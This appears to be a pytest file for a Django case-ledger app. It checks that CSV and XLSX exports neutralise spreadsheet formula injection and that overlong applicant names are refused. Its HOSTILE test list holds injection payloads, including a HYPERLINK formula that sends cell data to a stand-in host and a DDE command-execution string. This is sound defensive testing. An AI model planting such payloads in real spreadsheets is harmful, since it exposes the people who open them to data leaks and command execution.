"""Exported ledgers carry no formula: text a spreadsheet would evaluate is neutralised in CSV and XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.apps.reports.ledger_data import TODAY, _row, import_rows
from xxgk.core.spreadsheet import neutralise_cell

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize(
    ("value", "safe"),
    [(text, "'" + text) for text in HOSTILE]
    + [("2025-0001", "2025-0001"), ("张三", "张三"), ("", ""), (None, None), (12, 12), ("a=b", "a=b")],
)
def test_neutralise_cell(value, safe):
    assert neutralise_cell(value) == safe


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_ledger_holds_no_cell_a_spreadsheet_would_evaluate(unit, staff, calendar, fmt):
    rows = [
        _row(f"2025-{n + 1:04d}", "2025-03-02", "网络", "自然人", text, text, "2025-03-20", "（一）予以公开")
        for n, text in enumerate(HOSTILE)
    ]
    import_rows(unit, calendar, rows=rows)
    client = Client()
    client.force_login(staff["handler"])
    response = client.get(reverse("cases_ledger:export"), {"format": fmt, "year": "2025"})
    assert response.status_code == 200
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
    else:
        book = load_workbook(io.BytesIO(response.content))
        sheet_cells = [cell for row in book.active.iter_rows() for cell in row]
        assert not [c.coordinate for c in sheet_cells if c.data_type == "f"]
        cells = [c.value for c in sheet_cells]
    assert not [c for c in cells if _formula_like(c)]
    contents = {"'" + text.strip() for text in HOSTILE}  # the importer strips surrounding blanks
    assert contents <= set(cells)  # the applicant's text is kept, only made inert


def test_an_overlong_applicant_name_is_refused_before_the_database_sees_it(unit, calendar):
    from xxgk.apps.cases.ledger import LedgerTable, validate_ledger
    from xxgk.apps.cases.models import Case
    from xxgk.core.cases.ledger import HEADERS

    row = _row("2025-0001", "2025-03-02", "网络", "自然人", "张" * 5000, "规划文本", "2025-03-20", "（一）予以公开")
    table = LedgerTable(list(HEADERS), [dict(zip(HEADERS, row, strict=True))])
    result = validate_ledger(unit, table, calendar=calendar, today=TODAY)
    assert not result.ok
    assert result.refused[0].errors == ("“申请人”超过100个字（5000个字）",)
    assert not Case.objects.exists()
